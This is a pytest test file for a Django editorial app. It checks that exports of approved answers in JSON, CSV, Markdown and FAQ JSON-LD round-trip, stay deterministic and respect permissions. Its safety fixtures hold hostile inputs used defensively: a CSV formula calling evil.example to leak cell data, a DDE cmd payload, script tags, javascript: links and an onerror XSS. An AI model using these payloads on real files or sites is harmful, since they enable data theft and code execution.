"""Export: every format round-trips the approved versions, never a draft, safe, stable, flat."""

from __future__ import annotations

import csv
import datetime
import hashlib
import io
import json
import re

import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from markdown_it import MarkdownIt

from editorial import workflow
from editorial.exporters import (
    FIELDS,
    FORMATS,
    Export,
    ExportError,
    markdown_block,
    neutralise_cell,
    words_changed,
)
from editorial.models import Answer, ApprovedVersion, Document, ExportRecord, Status

pytestmark = pytest.mark.django_db
SQLITE_CACHE_PRAGMAS = 3 if connection.vendor == "sqlite" else 0

MASSACHUSETTS = "000_45b9d17f8c940ceb.txt"
MISSISSIPPI = "004_4ec6ae860d37c5b3.txt"
HEDGED = {MASSACHUSETTS: {1, 10, 15}, MISSISSIPPI: {19}}

RMV = {
    "url": "https://www.mass.gov/orgs/massachusetts-registry-of-motor-vehicles",
    "title": "Registry of Motor Vehicles",
    "publisher": "Commonwealth of Massachusetts",
    "accessed_on": datetime.date(2026, 11, 20),
    "excerpt": "The RMV issues licences.",
}
MS_DPS = {
    "url": "https://www.dps.ms.gov/driver-service-bureau",
    "title": "Driver Service Bureau",
    "publisher": "Mississippi Department of Public Safety",
    "accessed_on": datetime.date(2026, 11, 19),
    "excerpt": "",
}
HOSTILE_TEXT = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")\n'
    "@SUM(1+1)*cmd|' /C calc'!A0\n"
    "<script>alert('answer')</script>\n"
    "# Not a heading\n"
    "[a link](javascript:alert(1)) and ![an image](http://evil.example/x.png)\n"
    "- not a list\n"
    "1. not an ordered list\n"
    "> not a quote\n"
    "    not code\n"
    "| not | a table |\n"
    "|-----|---------|\n"
    "**not bold** ~~not struck~~ `not code` &lt;not an entity&gt; <b>not html</b>\n"
    "===\n"
    "</script><!-- end -->"
)
HOSTILE_QUESTION = "+1 <img src=x onerror=alert(1)> [q](javascript:alert(2))? #"
HOSTILE_SOURCE = {
    "url": "https://evil.example/a_(b)?x=<script>",
    "title": "@SUM(2) <script>alert('title')</script> [t](javascript:alert(3))",
    "publisher": "-2+3 </script>",
    "accessed_on": datetime.date(2026, 1, 2),
    "excerpt": "",
}


# --- building approved content through the workflow -----------------------------------------


def answer_at(document: str, position: int) -> Answer:
    return Answer.objects.get(document__name=document, position=position)


def approve(answer: Answer, editor, reviewer, *, sources=None, **content) -> Answer:
    """Source (and optionally rewrite) an answer, link each of its claims to its first source,
    submit it and have it approved."""
    workflow.edit(answer, user=editor, sources=sources or [RMV], **content)
    settle_claims(answer, editor)
    workflow.submit(answer, editor, reviewer=reviewer)
    return workflow.approve(answer, reviewer)


def settle_claims(answer: Answer, editor) -> None:
    """Link each claim of the answer's text to its first source, as an editor would."""
    for claim in workflow.unsettled_claims(answer):
        workflow.settle_claim(
            answer,
            user=editor,
            claim=claim.key,
            kind="source",
            source_id=answer.sources.order_by("id").first().pk,
            excerpt=f"Quoted for {claim.text}.",
        )


def approvable(limit: int) -> list[Answer]:
    """Answers that only lack a source (and evidence for their claims), in reading order."""
    answers = Answer.objects.select_related("document").order_by("document__name", "position")
    return [a for a in answers if a.position not in HEDGED[a.document.name]][:limit]


@pytest.fixture
def approved(seeds, editor, reviewer) -> dict[str, Answer]:
    """Approved answers in both documents, one of them a hedged answer rewritten first."""
    return {
        "ma2": approve(answer_at(MASSACHUSETTS, 2), editor, reviewer),
        "ma3": approve(answer_at(MASSACHUSETTS, 3), editor, reviewer, sources=[RMV, MS_DPS]),
        "ma1": approve(
            answer_at(MASSACHUSETTS, 1),
            editor,
            reviewer,
            text="Since 2004 the RMV shares records with ICE only when a court order requires it.",
        ),
        "ms1": approve(answer_at(MISSISSIPPI, 1), editor, reviewer, sources=[MS_DPS]),
        "ms20": approve(
            answer_at(MISSISSIPPI, 20),
            editor,
            reviewer,
            sources=[MS_DPS],
            question="Does Mississippi share licence photos with ICE?",
        ),
    }


def expected_records() -> list[dict]:
    """What every export must carry, read straight from the approved versions."""
    versions = (
        ApprovedVersion.objects.exclude(answer__status=Status.ARCHIVED)
        .select_related("answer__document", "approved_by")
        .order_by("answer__document__name", "answer__position")
    )
    return [
        {
            "id": version.answer_id,
            "document": version.answer.document.name,
            "subject": version.answer.document.subject,
            "position": version.answer.position,
            "question": version.question,
            "answer": version.text,
            "sources": [
                {key: source[key] for key in ("url", "title", "publisher", "accessed")}
                for source in version.sources
            ],
            "approved_by": version.approved_by.username,
            "approved_at": version.approved_at.isoformat(),
            "version": version.version,
            "review_by": version.review_by.isoformat(),
            "digitalSourceType": version.provenance["digital_source_type"],
            "editors": version.provenance["editors"],
            "correction": version.provenance["correction"],
            "claims": [
                {key: claim[key] for key in ("text", "source_url", "excerpt", "reason")}
                for claim in version.claims
            ],
        }
        for version in versions
    ]


def export(format_name: str, **options) -> bytes:
    out = io.BytesIO()
    Export(format_name, channel="command", **options).write_to(out)
    return out.getvalue()


# --- parsers for each format: what a consumer of the file would do ---------------------------


def parse_json(data: bytes) -> list[dict]:
    return json.loads(data)


def parse_jsonl(data: bytes) -> list[dict]:
    return [json.loads(line) for line in data.decode("utf-8").splitlines()]


def parse_csv(data: bytes) -> list[dict]:
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
    for row in rows:
        for key in ("id", "position", "version"):
            row[key] = int(row[key])
        row["sources"] = json.loads(row["sources"])
        row["editors"] = json.loads(row["editors"])
        row["claims"] = json.loads(row["claims"])
    return rows


def _inline_text(token) -> str:
    parts = []
    for child in token.children:
        if child.type == "text":
            parts.append(child.content)
        elif child.type in {"softbreak", "hardbreak"}:
            parts.append("\n")
    return "".join(parts)


def parse_markdown(data: bytes) -> list[dict]:
    """Read answers back from the rendered structure: h1 document, h2 question, body, list."""
    tokens = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(data.decode())
    documents: list[dict] = []
    block = None
    for index, token in enumerate(tokens):
        if token.type != "inline":
            continue
        opener = tokens[index - 1]
        text = _inline_text(token)
        if opener.type == "heading_open" and opener.tag == "h1":
            documents.append({"subject": text, "answers": []})
            block = None
        elif opener.type == "heading_open" and opener.tag == "h2":
            position, question = text.split(". ", 1)
            block = {
                "position": int(position),
                "question": question,
                "body": [],
                "sources": [],
                "claims": [],
            }
            documents[-1]["answers"].append(block)
        elif tokens[index - 2].type == "list_item_open" and block.get("claims_next"):
            block["claims"].append(text)
        elif tokens[index - 2].type == "list_item_open":
            hrefs = [c.attrGet("href") for c in token.children if c.type == "link_open"]
            block["sources"].append({"text": text, "hrefs": hrefs})
        elif block is None:
            documents[-1]["document"] = text.removeprefix("Document: ")
        elif text == "Sources:":
            block["body_done"] = True
        elif text == "Claims and their evidence:":
            block["body_done"] = block["claims_next"] = True
        elif text.startswith("Approved by "):
            block["approval"] = text
        elif text.startswith("Machine-written text, "):
            block["made"] = text
        elif not block.get("body_done"):
            block["body"].append(text)
    return documents


def lines_of(text: str) -> list[str]:
    """An answer's text as the Markdown shows it: its non-empty lines, stripped."""
    return [line.strip() for line in text.splitlines() if line.strip()]


# --- every format round-trips -------------------------------------------------------------


@pytest.mark.parametrize(
    "approved_at",
    [
        datetime.datetime(2026, 11, 20, 9, 30, tzinfo=datetime.UTC),
        datetime.datetime(2026, 11, 20, 9, 30, 0, 100000, tzinfo=datetime.UTC),
        datetime.datetime(2026, 11, 20, 9, 30, 5, 7, tzinfo=datetime.UTC),
        datetime.datetime(1999, 12, 31, 23, 59, 59, 999999, tzinfo=datetime.UTC),
        # Given in another zone: exported in UTC all the same.
        datetime.datetime(
            2026, 3, 29, 1, 30, 0, 500, tzinfo=datetime.timezone(datetime.timedelta(hours=-5))
        ),
    ],
)
def test_approval_times_are_exported_as_isoformat_writes_them_in_utc(approved, approved_at):
    """The export reads times as the database's text (faster than Django parsing each)."""
    ApprovedVersion.objects.filter(answer=approved["ma1"]).update(approved_at=approved_at)
    record = next(r for r in parse_jsonl(export("jsonl")) if r["id"] == approved["ma1"].pk)
    assert record["approved_at"] == approved_at.astimezone(datetime.UTC).isoformat()


@pytest.mark.parametrize("format_name", ["json", "jsonl"])
def test_json_formats_round_trip_the_approved_versions(approved, format_name):
    parse = parse_json if format_name == "json" else parse_jsonl
    records = parse(export(format_name))
    assert records == expected_records()
    assert len(records) == 5
    assert set(records[0]) >= set(FIELDS)
    rewritten = next(r for r in records if r["id"] == approved["ma1"].pk)
    assert rewritten["answer"] == (
        "Since 2004 the RMV shares records with ICE only when a court order requires it."
    )
    assert rewritten["claims"] == [
        {"text": "2004", "source_url": RMV["url"], "excerpt": "Quoted for 2004.", "reason": ""}
    ]
    both = next(r for r in records if r["id"] == approved["ma3"].pk)
    assert both["sources"] == [
        {
            "url": RMV["url"],
            "title": RMV["title"],
            "publisher": RMV["publisher"],
            "accessed": "2026-11-20",
        },
        {
            "url": MS_DPS["url"],
            "title": MS_DPS["title"],
            "publisher": MS_DPS["publisher"],
            "accessed": "2026-11-19",
        },
    ]
    assert both["approved_by"] == "reviewer"
    assert (
        datetime.datetime.fromisoformat(both["approved_at"]) == approved["ma3"].approved.approved_at
    )


ODD_TEXT = 'Tab\there, "quoted", back\\slash, a bell \x07, \u2028 a separator, é ü 日本 😀 </b>'


def test_json_formats_are_the_bytes_json_dumps_writes(approved, hostile, editor, reviewer):
    # The records are written out by hand for speed; they must stay json.dumps' bytes.
    approve(
        answer_at(MISSISSIPPI, 3),
        editor,
        reviewer,
        question=ODD_TEXT + "?",
        text=ODD_TEXT,
        sources=[{**RMV, "title": ODD_TEXT, "publisher": ""}, MS_DPS],
    )
    reference = [json.dumps(r, ensure_ascii=False, sort_keys=True) for r in expected_records()]
    assert len(reference) == 7

    assert export("jsonl") == "".join(line + "\n" for line in reference).encode()
    assert export("json") == ("[\n" + ",\n".join(reference) + "\n]\n").encode()
    cells = [row[6] for row in csv.reader(io.StringIO(export("csv").decode(), newline=""))]
    assert cells[1:] == [
        json.dumps(record["sources"], ensure_ascii=False, sort_keys=True)
        for record in expected_records()
    ]


def test_csv_round_trips_the_approved_versions(approved):
    data = export("csv")
    assert data.startswith(b"id,document,subject,position,question,answer,sources,")
    assert data.count(b"\r\n") >= 6  # RFC 4180 line ends
    expected = [
        {key: neutralise_cell(value) for key, value in record.items()}
        for record in expected_records()
    ]
    assert parse_csv(data) == expected


def test_markdown_reads_back_as_the_approved_versions(approved):
    documents = parse_markdown(export("md"))
    expected = expected_records()
    assert [(d["subject"], d["document"]) for d in documents] == [
        ("Massachusetts", MASSACHUSETTS),
        ("Mississippi", MISSISSIPPI),
    ]
    answers = [answer for document in documents for answer in document["answers"]]
    assert len(answers) == len(expected)
    for answer, record in zip(answers, expected, strict=True):
        assert answer["position"] == record["position"]
        assert answer["question"] == " ".join(record["question"].split())
        assert "\n".join(answer["body"]).splitlines() == lines_of(record["answer"])
        assert [s["hrefs"] for s in answer["sources"]] == [[s["url"]] for s in record["sources"]]
        assert [s["text"] for s in answer["sources"]] == [
            f"{s['title']}, {s['publisher']}, accessed {s['accessed']}" for s in record["sources"]
        ]
        assert answer["claims"] == [
            f"{c['text']}: {c['source_url']}, “{c['excerpt']}”" for c in record["claims"]
        ]
        assert answer["approval"] == (
            f"Approved by {record['approved_by']} on {record['approved_at']}, "
            f"version {record['version']}; review by {record['review_by']}."
        )
        unchanged = record["digitalSourceType"].endswith("/trainedAlgorithmicMedia")
        assert answer["made"] == (
            "Machine-written text, "
            + ("its words approved unchanged" if unchanged else "corrected by people")
            + f"; worked on by {', '.join(record['editors'])}."
        )


def test_faq_is_one_faqpage_per_document_with_accepted_answers(approved):
    pages = json.loads(export("faq"))
    expected = expected_records()
    assert [page["identifier"] for page in pages] == [MASSACHUSETTS, MISSISSIPPI]
    assert [page["name"] for page in pages] == ["Massachusetts", "Mississippi"]
    questions = []
    for page in pages:
        assert page["@context"] == "https://schema.org"
        assert page["@type"] == "FAQPage"
        questions += page["mainEntity"]
    assert len(questions) == len(expected)
    for question, record in zip(questions, expected, strict=True):
        assert question["@type"] == "Question"
        assert question["identifier"] == str(record["id"])
        assert question["position"] == record["position"]
        assert question["name"] == record["question"]
        answer = question["acceptedAnswer"]
        assert answer["@type"] == "Answer"
        assert answer["text"] == record["answer"]
        assert answer["version"] == record["version"]
        assert answer["dateModified"] == record["approved_at"]
        assert answer["editor"] == {"@type": "Person", "name": record["approved_by"]}
        assert answer["citation"] == [
            {
                "@type": "WebPage",
                "url": s["url"],
                "name": s["title"],
                "publisher": {"@type": "Organization", "name": s["publisher"]},
                "lastReviewed": s["accessed"],
            }
            for s in record["sources"]
        ]


def test_pairs_put_the_imported_machine_text_beside_the_approved_text(approved):
    pairs = {pair["id"]: pair for pair in parse_jsonl(export("pairs"))}
    assert [pairs[r["id"]][k] for r in expected_records() for k in FIELDS] == [
        r[k] for r in expected_records() for k in FIELDS
    ]
    for pair in pairs.values():
        answer = Answer.objects.get(pk=pair["id"])
        assert pair["imported_question"] == answer.imported_question
        assert pair["imported_answer"] == answer.imported_text
    untouched = pairs[approved["ma2"].pk]  # only a source was added
    assert untouched["answer_words_changed"] == 0.0
    assert untouched["question_words_changed"] == 0.0
    rewritten = pairs[approved["ma1"].pk]
    assert 0.5 < rewritten["answer_words_changed"] <= 1.0
    assert rewritten["answer_words_changed"] == words_changed(
        approved["ma1"].imported_text, approved["ma1"].approved.text
    )
    retitled = pairs[approved["ms20"].pk]
    assert retitled["question_words_changed"] > 0.0
    assert retitled["answer_words_changed"] == 0.0


def test_words_changed_counts_removed_and_added_words_over_both_texts():
    assert words_changed("a b c d", "a b c d") == 0.0
    assert words_changed("a b c d", "a b x d") == 0.25  # 1 removed + 1 added over 8
    assert words_changed("a b", "") == 1.0
    assert words_changed("", "") == 0.0
    assert words_changed("one  two\nthree", "one two three") == 0.0  # words, not spacing


@pytest.mark.parametrize("format_name", list(FORMATS))
def test_an_export_with_nothing_approved_is_still_well_formed(seeds, format_name):
    data = export(format_name)
    assert {
        "json": b"[]\n",
        "jsonl": b"",
        "csv": b"id,document,subject,position,question,answer,sources,claims,approved_by,"
        b"approved_at,version,review_by,digitalSourceType,editors,correction\r\n",
        "md": b"",
        "faq": b"[]\n",
        "pairs": b"",
        "prov": b'{"@context": {"editorial": "urn:editorial:vocab:", '
        b'"prov": "http://www.w3.org/ns/prov#", "schema": "https://schema.org/", '
        b'"xsd": "http://www.w3.org/2001/XMLSchema#"}, "@graph": []}\n',
    }[format_name] == data


# --- never the draft --------------------------------------------------------------------------


def _exported_answers(format_name: str = "jsonl") -> dict[int, tuple[str, str]]:
    return {r["id"]: (r["question"], r["answer"]) for r in parse_jsonl(export(format_name))}


def test_only_approved_versions_leave_the_system(seeds, editor, reviewer, managing):
    ma = {position: answer_at(MASSACHUSETTS, position) for position in range(2, 8)}
    approved = approve(ma[2], editor, reviewer)
    workflow.edit(ma[3], user=editor, sources=[RMV])  # draft
    workflow.edit(ma[4], user=editor, sources=[RMV])
    workflow.submit(ma[4], editor, reviewer=reviewer)  # in review
    workflow.edit(ma[5], user=editor, sources=[RMV])
    settle_claims(ma[5], editor)
    workflow.submit(ma[5], editor, reviewer=reviewer)
    workflow.request_changes(ma[5], reviewer, comment="Cite the statute.")
    archived = approve(ma[6], editor, reviewer)
    workflow.archive(archived, managing)
    workflow.edit(ma[7], user=editor, text="A draft nobody approved.")

    for format_name in FORMATS:
        data = export(format_name).decode()
        assert "A draft nobody approved." not in data
    assert set(_exported_answers()) == {approved.pk}
    # Restoring an archived approved answer brings its approved version back.
    workflow.restore(archived, managing)
    assert set(_exported_answers()) == {approved.pk, archived.pk}


def test_an_answer_edited_after_approval_exports_its_approved_text(seeds, editor, reviewer):
    answer = approve(answer_at(MASSACHUSETTS, 2), editor, reviewer)
    approved_text = (answer.question, answer.text)
    workflow.edit(answer, user=editor, question="EDITED question?", text="EDITED draft text.")
    assert answer.status == Status.DRAFT

    for format_name in FORMATS:
        data = export(format_name).decode()
        assert "EDITED" not in data, format_name
    assert _exported_answers()[answer.pk] == approved_text

    workflow.submit(answer, editor, reviewer=reviewer)  # in review: still the approved text
    assert _exported_answers()[answer.pk] == approved_text
    workflow.request_changes(answer, reviewer, comment="Not yet.")
    assert _exported_answers()[answer.pk] == approved_text

    workflow.submit(answer, editor, reviewer=reviewer)
    workflow.approve(answer, reviewer)
    assert _exported_answers()[answer.pk] == ("EDITED question?", "EDITED draft text.")
    assert parse_jsonl(export("jsonl"))[0]["version"] == answer.version


def test_the_answers_working_fields_are_never_read(approved):
    """Even a working row changed behind the workflow's back does not leak into an export."""
    Answer.objects.filter(pk=approved["ma2"].pk).update(
        question="Working question", text="Working text"
    )
    for format_name in FORMATS:
        assert b"Working" not in export(format_name)


# --- deterministic --------------------------------------------------------------------------


@pytest.mark.parametrize("format_name", list(FORMATS))
def test_two_exports_of_the_same_data_are_byte_identical(approved, format_name):
    first = export(format_name)
    second = export(format_name)
    assert first == second
    assert first  # not trivially equal
    records = ExportRecord.objects.filter(format=format_name)
    assert records.count() == 2
    assert {r.sha256 for r in records} == {hashlib.sha256(first).hexdigest()}


# --- safety ---------------------------------------------------------------------------------


@pytest.fixture
def hostile(seeds, editor, reviewer) -> Answer:
    return approve(
        answer_at(MISSISSIPPI, 2),
        editor,
        reviewer,
        question=HOSTILE_QUESTION,
        text=HOSTILE_TEXT,
        sources=[HOSTILE_SOURCE],
    )


def test_csv_cells_cannot_start_a_formula(hostile):
    rows = list(csv.reader(io.StringIO(export("csv").decode(), newline="")))
    assert len(rows) == 2
    for cell in rows[1]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["answer"] == "'" + HOSTILE_TEXT  # shown as text, nothing lost
    assert record["question"] == "'" + HOSTILE_QUESTION
    assert json.loads(record["sources"])[0]["title"] == HOSTILE_SOURCE["title"]


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1"],
)
def test_formula_starts_are_neutralised(value):
    assert neutralise_cell(value) == "'" + value
    assert neutralise_cell("1-1") == "1-1"
    assert neutralise_cell(7) == 7


def test_markdown_shows_hostile_text_as_text(hostile):
    source = export("md").decode()
    assert "<script" not in source and "<img" not in source and "<b>" not in source
    md = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    tokens = md.parse(source)
    flat = tokens + [child for token in tokens for child in (token.children or [])]
    kinds = {token.type for token in flat}
    assert not kinds & {
        "html_inline",
        "html_block",
        "code_inline",
        "code_block",
        "fence",
        "blockquote_open",
        "table_open",
        "s_open",
        "strong_open",
        "image",
        "hr",
        "bullet_list_open",
    }
    headings = [t for t in tokens if t.type == "heading_open"]
    assert [h.tag for h in headings] == ["h1", "h2"]  # the document and the question only
    hrefs = [t.attrGet("href") for t in flat if t.type == "link_open"]
    assert hrefs == ["https://evil.example/a_%28b%29?x=%3Cscript%3E"]  # the source, encoded
    html = md.render(source)
    assert (
        "<script" not in html
        and "<img" not in html
        and "javascript:" not in html.split("href=")[-1].split(">")[0]
    )
    # Read back, the text is exactly what was approved.
    (document,) = parse_markdown(source.encode())
    (answer,) = document["answers"]
    assert answer["question"] == HOSTILE_QUESTION
    assert "\n".join(answer["body"]).splitlines() == lines_of(HOSTILE_TEXT)
    assert answer["sources"][0]["text"] == (
        f"{HOSTILE_SOURCE['title']}, {HOSTILE_SOURCE['publisher']}, accessed 2026-01-02"
    )


def test_markdown_escaping_of_line_starts():
    assert markdown_block("# a\n- b\n+ c\n= d\n12. e\n3) f\n> g") == (
        "\\# a  \n\\- b  \n\\+ c  \n\\= d  \n12\\. e  \n3\\) f  \n&gt; g"
    )
    assert markdown_block("one\n\n\ntwo") == "one\n\ntwo"


def test_json_ld_is_safe_inside_a_script_block(hostile):
    data = export("faq")
    assert b"<" not in data and b">" not in data and b"&" not in data
    assert b"\\u003c/script\\u003e" in data
    (page,) = json.loads(data)
    (question,) = page["mainEntity"]
    assert question["name"] == HOSTILE_QUESTION
    assert question["acceptedAnswer"]["text"] == HOSTILE_TEXT
    assert question["acceptedAnswer"]["citation"][0]["url"] == HOSTILE_SOURCE["url"]
    # Embedded in a page, the block ends only where the page ends it.
    page_html = f'<script type="application/ld+json">{data.decode()}</script>'
    assert page_html.count("</script") == 1


# --- scale: queries do not grow with the answers -------------------------------------------


@pytest.mark.parametrize("size", [3, 30])
@pytest.mark.parametrize("format_name", list(FORMATS))
def test_an_export_makes_the_same_few_queries_at_any_size(
    seeds, editor, reviewer, size, format_name, django_assert_max_num_queries
):
    for answer in approvable(size):
        approve(answer, editor, reviewer)
    # The approved versions, then the record; on SQLite, three PRAGMAs around the read
    # (the page cache made small while it sorts, then put back).
    with django_assert_max_num_queries(2 + SQLITE_CACHE_PRAGMAS):
        data = export(format_name)
    assert ExportRecord.objects.get().answer_count == size
    assert data


def test_the_query_is_one_select_whatever_the_size(seeds, editor, reviewer):
    counts, done = [], 0
    for size in (3, 30):
        for answer in approvable(size)[done:]:
            approve(answer, editor, reviewer)
        done = size
        with CaptureQueriesContext(connection) as queries:
            export("md", documents=[MASSACHUSETTS, MISSISSIPPI])
        counts.append(len(queries))
    # Documents checked, approved versions, record (and the PRAGMAs on SQLite).
    assert counts[0] == counts[1] == 3 + SQLITE_CACHE_PRAGMAS


# --- the export record ----------------------------------------------------------------------


def test_every_export_is_recorded_with_its_count_and_hash(approved, managing):
    run = Export("csv", user=managing, channel="command", documents=[MISSISSIPPI])
    out = io.BytesIO()
    run.write_to(out)
    record = ExportRecord.objects.get()
    assert record == run.record
    assert record.created_by == managing
    assert record.format == "csv"
    assert record.channel == "command"
    assert record.filters == {"documents": [MISSISSIPPI]}
    assert record.answer_count == 2
    assert record.sha256 == hashlib.sha256(out.getvalue()).hexdigest()


def test_an_export_not_read_to_the_end_is_not_recorded(approved):
    stream = Export("jsonl", channel="admin").stream()
    next(stream)
    stream.close()
    assert not ExportRecord.objects.exists()


def test_unknown_format_or_document_is_refused(seeds):
    with pytest.raises(ExportError, match="Unknown format 'xml'"):
        Export("xml", channel="command")
    with pytest.raises(ExportError, match="No document named 'nope.txt'"):
        Export("json", channel="command", documents=[MASSACHUSETTS, "nope.txt"])


# --- the command ----------------------------------------------------------------------------


def run_command(*args) -> tuple[str, str]:
    out, err = io.StringIO(), io.StringIO()
    call_command("export_answers", *args, stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


def test_command_writes_to_stdout_with_a_summary_on_stderr(approved):
    out, err = run_command("--format", "jsonl")
    assert parse_jsonl(out.encode()) == expected_records()
    digest = hashlib.sha256(out.encode()).hexdigest()
    assert err == f"Exported 5 answer(s) as jsonl to stdout; sha256 {digest}\n"
    record = ExportRecord.objects.get()
    assert (record.channel, record.format, record.answer_count, record.sha256) == (
        "command",
        "jsonl",
        5,
        digest,
    )
    assert record.created_by is None
    assert record.filters == {}


def test_command_writes_exact_bytes_to_a_binary_stdout(approved):
    raw = io.BytesIO()
    stdout = io.TextIOWrapper(raw, encoding="utf-8", write_through=True)
    call_command("export_answers", "--format", "md", stdout=stdout, stderr=io.StringIO())
    assert raw.getvalue() == export("md")
    assert (
        ExportRecord.objects.order_by("id").first().sha256
        == hashlib.sha256(raw.getvalue()).hexdigest()
    )


def test_command_writes_a_file_for_one_document_as_a_user(approved, managing, tmp_path):
    path = tmp_path / "ms.csv"
    out, err = run_command(
        "--format", "csv", "--output", str(path), "--document", MISSISSIPPI, "--user", "managing"
    )
    assert out == ""
    data = path.read_bytes()
    assert {row["document"] for row in parse_csv(data)} == {MISSISSIPPI}
    assert re.fullmatch(
        rf"Exported 2 answer\(s\) as csv to {re.escape(str(path))}; sha256 [0-9a-f]{{64}}\n", err
    )
    record = ExportRecord.objects.get()
    assert record.sha256 == hashlib.sha256(data).hexdigest()
    assert record.created_by == managing
    assert record.filters == {"documents": [MISSISSIPPI]}
    assert record.answer_count == 2


@pytest.mark.parametrize(
    "args, message",
    [
        (["--format", "xml"], "invalid choice: 'xml'"),
        (["--format", "json", "--document", "nope.txt"], "No document named 'nope.txt'"),
        (["--format", "json", "--user", "nobody"], "No user named 'nobody'"),
        (["--format", "json", "--output", "/nonexistent/dir/x.json"], "Cannot write"),
    ],
)
def test_command_refuses_bad_input(seeds, args, message):
    with pytest.raises(CommandError, match=message):
        run_command(*args)
    assert not ExportRecord.objects.exists()


# --- the admin ------------------------------------------------------------------------------


def export_url(**params) -> str:
    query = "&".join(f"{key}={value}" for key, value in params.items())
    return reverse("admin:editorial_answer_export") + (f"?{query}" if query else "")


@pytest.mark.parametrize("person", ["editor", "reviewer", "editor_reviewer", "outsider"])
def test_admin_export_is_refused_without_the_permission(client, approved, request, person):
    client.force_login(request.getfixturevalue(person))
    response = client.get(export_url(format="jsonl"))
    assert response.status_code == 403
    changelist = client.get(reverse("admin:editorial_answer_changelist"))
    if changelist.status_code == 200:
        assert changelist.context["export_links"] == []
        assert b"export-link" not in changelist.content
    assert not ExportRecord.objects.exists()


def test_admin_changelist_offers_export_links_with_the_current_filters(client, approved, managing):
    client.force_login(managing)
    document = Document.objects.get(name=MISSISSIPPI)
    response = client.get(
        reverse("admin:editorial_answer_changelist"),
        {"document__id__exact": document.pk, "q": "ICE", "p": "1", "o": "2"},
    )
    links = response.context["export_links"]
    assert [link["format"] for link in links] == list(FORMATS)
    assert links[1]["url"] == export_url(document__id__exact=document.pk, q="ICE", format="jsonl")
    assert response.content.count(b'class="export-link"') == len(FORMATS)


@pytest.mark.parametrize("format_name", list(FORMATS))
def test_admin_download_streams_the_export_and_records_it(client, approved, managing, format_name):
    client.force_login(managing)
    response = client.get(export_url(format=format_name))
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == FORMATS[format_name].content_type
    filename = f"approved-answers-{timezone.localdate().isoformat()}"
    assert response["Content-Disposition"] == (
        f'attachment; filename="{filename}{FORMATS[format_name].suffix}"'
    )
    assert not ExportRecord.objects.exists()  # nothing sent yet
    body = b"".join(response.streaming_content)
    assert body == export(format_name)
    record = ExportRecord.objects.filter(channel="admin").get()
    assert record.created_by == managing
    assert record.answer_count == 5
    assert record.sha256 == hashlib.sha256(body).hexdigest()
    assert record.filters == {"changelist": {}}


def test_admin_download_exports_what_the_list_shows(client, approved, managing, editor):
    client.force_login(managing)
    document = Document.objects.get(name=MASSACHUSETTS)
    response = client.get(export_url(format="json", document__id__exact=document.pk))
    body = b"".join(response.streaming_content)
    assert {r["document"] for r in parse_json(body)} == {MASSACHUSETTS}
    record = ExportRecord.objects.get()
    assert record.answer_count == 3
    assert record.filters == {"changelist": {"document__id__exact": str(document.pk)}}

    # Filtered to drafts: the answer edited after approval is listed, and exported as approved.
    workflow.edit(approved["ma2"], user=editor, text="Working draft.")
    response = client.get(export_url(format="jsonl", status__exact="draft"))
    records = parse_jsonl(b"".join(response.streaming_content))
    assert [(r["id"], r["answer"]) for r in records] == [
        (approved["ma2"].pk, approved["ma2"].approved.text)
    ]


def test_admin_download_refuses_bad_links_and_ignores_paging(client, approved, managing):
    client.force_login(managing)
    assert client.get(export_url(format="xml")).status_code == 400
    assert client.get(export_url()).status_code == 400
    assert client.get(export_url(format="json", nonsense__field="1")).status_code == 400
    assert not ExportRecord.objects.exists()
    # Paging and ordering of the list do not change what is exported.
    paged = client.get(export_url(format="json", p="99", o="-3"))
    assert paged.status_code == 200
    assert b"".join(paged.streaming_content) == export("json")
    assert ExportRecord.objects.filter(channel="admin").get().filters == {"changelist": {}}


def test_admin_download_queries_do_not_grow_with_the_answers(
    client, seeds, editor, reviewer, managing
):
    client.force_login(managing)
    counts, done = [], 0
    for size in (3, 30):
        for answer in approvable(size)[done:]:
            approve(answer, editor, reviewer)
        done = size
        with CaptureQueriesContext(connection) as queries:
            response = client.get(export_url(format="jsonl"))
            body = b"".join(response.streaming_content)
        assert len(parse_jsonl(body)) == size
        counts.append(len(queries))
    assert counts[0] == counts[1]


def test_exporting_selected_documents_asks_for_a_format_then_streams(client, approved, managing):
    client.force_login(managing)
    url = reverse("admin:editorial_document_changelist")
    document = Document.objects.get(name=MISSISSIPPI)
    selection = {"action": "export_selected_documents", "_selected_action": [document.pk]}

    listing = client.get(url)
    assert "export_selected_documents" in dict(
        listing.context["action_form"].fields["action"].choices
    )
    choose = client.post(url, {**selection, "index": "0"})
    assert choose.status_code == 200
    assert [f.name for f in choose.context["formats"]] == list(FORMATS)
    assert MISSISSIPPI.encode() in choose.content

    response = client.post(url, {**selection, "format": "csv"})
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "approved-answers-004_4ec6ae860d37c5b3-" in response["Content-Disposition"]
    body = b"".join(response.streaming_content)
    assert {row["document"] for row in parse_csv(body)} == {MISSISSIPPI}
    record = ExportRecord.objects.get()
    assert (record.channel, record.answer_count, record.filters) == (
        "admin",
        2,
        {"documents": [MISSISSIPPI]},
    )
    assert record.sha256 == hashlib.sha256(body).hexdigest()


@pytest.mark.parametrize("person", ["editor", "reviewer"])
def test_exporting_selected_documents_is_not_offered_without_the_permission(
    client, approved, request, person
):
    client.force_login(request.getfixturevalue(person))
    url = reverse("admin:editorial_document_changelist")
    listing = client.get(url)
    assert listing.status_code == 200
    assert "export_selected_documents" not in listing.content.decode()
    document = Document.objects.get(name=MISSISSIPPI)
    response = client.post(
        url,
        {"action": "export_selected_documents", "_selected_action": [document.pk], "format": "csv"},
    )
    assert not getattr(response, "streaming", False)
    assert not ExportRecord.objects.exists()


def test_export_records_are_read_only_in_the_admin(client, approved, managing):
    export("json")
    record = ExportRecord.objects.get()
    client.force_login(managing)
    assert client.get(reverse("admin:editorial_exportrecord_changelist")).status_code == 200
    change = client.get(reverse("admin:editorial_exportrecord_change", args=[record.pk]))
    assert change.status_code == 200
